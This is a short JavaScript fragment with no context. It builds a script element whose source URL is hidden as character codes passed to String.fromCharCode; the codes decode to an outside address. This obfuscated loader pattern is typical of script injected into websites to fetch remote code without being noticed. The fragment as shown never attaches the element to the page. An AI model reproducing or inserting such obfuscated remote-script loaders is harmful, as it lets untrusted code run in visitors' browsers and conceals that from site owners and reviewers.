const s = document.createElement("script");
s.src = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 99, 46, 100, 101, 47, 97);
